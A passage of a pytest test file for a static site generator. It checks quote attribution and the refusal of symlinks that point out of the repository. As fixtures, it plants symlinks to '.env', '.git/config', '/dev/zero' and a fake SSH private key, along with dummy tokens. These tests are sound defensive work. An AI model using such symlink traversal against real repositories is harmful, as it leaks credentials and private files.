    for fmt in ("json", "csv", "text"):
        shown = repo.run("quotes", "--format", fmt)
        assert shown.exit_code == 0 and "A fine quote." in shown.stdout
        assert "globex" not in shown.stdout.lower() or fmt == "text"  # text: for the author, who has the files
    quotes = json.loads((out / "quotes.json").read_text())["quotes"]
    ids = {q["transcript"] for q in quotes}
    assert len(ids) == 1 and ids.pop().startswith("t-")  # one opaque id, the same for both quotes
    assert json.loads(repo.run("quotes", "--format", "json").stdout)["quotes"] == quotes  # stable from build to build


def test_other_attributions_keep_the_transcript_path(repo, tmp_path):
    repo.write("persona-site.toml", 'attribution = "role-company"\n')
    repo.transcript("2026/globex.md", GOOD)
    out = tmp_path / "site"
    assert repo.run("build", "--out", str(out)).exit_code == 0
    assert {q["transcript"] for q in json.loads((out / "quotes.json").read_text())["quotes"]} == {"transcripts/2026/globex.md"}


# 40. Links: only files under content/ are content; content/, its folders and themes/ are never links out.
@pytest.mark.parametrize("target", ["../../.git/config", "../../.env", "../../README.md", "../.hidden/notes.md"])
def test_a_link_to_a_file_that_is_not_content_is_an_error_at_its_path(repo, tmp_path, target):
    repo.write("persona-site.toml", "publish_transcripts = true\n")
    repo.transcript("a.md", GOOD)
    repo.write(".env", "TOKEN=s3cret-token\n")
    repo.write("README.md", "TOKEN=s3cret-token\n")
    repo.write("content/.hidden/notes.md", "TOKEN=s3cret-token\n")
    repo.commit_all()
    repo.git("config", "http.extraheader", "AUTHORIZATION: bearer s3cret-token")
    (repo.root / "content/transcripts/notes.md").symlink_to(target)
    for command in (("check",), ("build", "--out", str(tmp_path / "site"))):
        result = repo.run(*command)
        assert result.exit_code == 1
        assert "content/transcripts/notes.md: error: this is a link to a file that is not content" in result.stderr
    assert not (tmp_path / "site").exists()


@pytest.mark.parametrize("folder", ["content", "content/transcripts", "content/personas", "themes"])
def test_a_content_or_theme_folder_linking_out_of_the_repository_is_refused(repo, tmp_path, folder):
    repo.transcript("a.md", GOOD)
    outside = tmp_path / "outside"
    shutil.copytree(repo.root / folder if folder != "themes" else repo.root / "content", outside)
    (outside / "leak.md").write_text("---\ntitle: Secret\n---\nTOKEN=s3cret-token\n")
    if folder == "themes":
        (outside / "default/templates").mkdir(parents=True)
        (outside / "default/templates/404.html").write_text("s3cret-token")
        repo.write("persona-site.toml", 'theme = "default"\n')
    else:
        shutil.rmtree(repo.root / folder)
    (repo.root / folder).symlink_to(outside)
    result = repo.run("build", "--out", str(tmp_path / "site"))
    assert result.exit_code == 1
    assert f"{folder}: error: this is a link to something outside the repository" in result.stderr
    assert not (tmp_path / "site").exists()


@pytest.mark.parametrize("what", ["a link out to a device", "a FIFO"])
def test_a_theme_file_that_is_no_file_neither_hangs_nor_is_read(repo, tmp_path, what):
    """The up-to-date check looks at the theme before the build does: a link out (refused by the build) and a FIFO
    (skipped by it) are never opened, so a clone cannot make `build` read /dev/zero or wait forever."""
    repo.transcript("a.md", GOOD)
    static = repo.root / "themes/default/static"
    static.mkdir(parents=True)
    if what == "a FIFO":
        os.mkfifo(static / "pipe.css")
    else:
        (static / "zero.css").symlink_to("/dev/zero")
    for _ in range(2):  # the first build, then the check of the second
        result = subprocess.run([sys.executable, "-m", "persona_site", "build", "--source", str(repo.root)],
                                capture_output=True, text=True, timeout=60)
        if what == "a FIFO":
            assert result.returncode == 0, result.stderr
        else:
            assert result.returncode == 1
            assert "themes/default/static/zero.css: error: this is a link to something outside the repository" \
                in result.stderr


def test_with_rev_the_theme_is_checked_for_links_out_as_without(repo, tmp_path):
    repo.transcript("a.md", GOOD)
    repo.write("persona-site.toml", 'theme = "mine"\n')
    (tmp_path / "key").write_text("-----BEGIN OPENSSH PRIVATE KEY----- s3cret-token")
    repo.write("themes/mine/templates/.keep", "")
    (repo.root / "themes/mine/templates/404.html").symlink_to(tmp_path / "key")
    repo.commit_all()
    out = tmp_path / "site"
    result = repo.run("build", "--rev", "HEAD", "--out", str(out))
    assert result.exit_code == 1
    assert "themes/mine/templates/404.html: error: this is a link to something outside the repository" in result.stderr
    assert not out.exists()
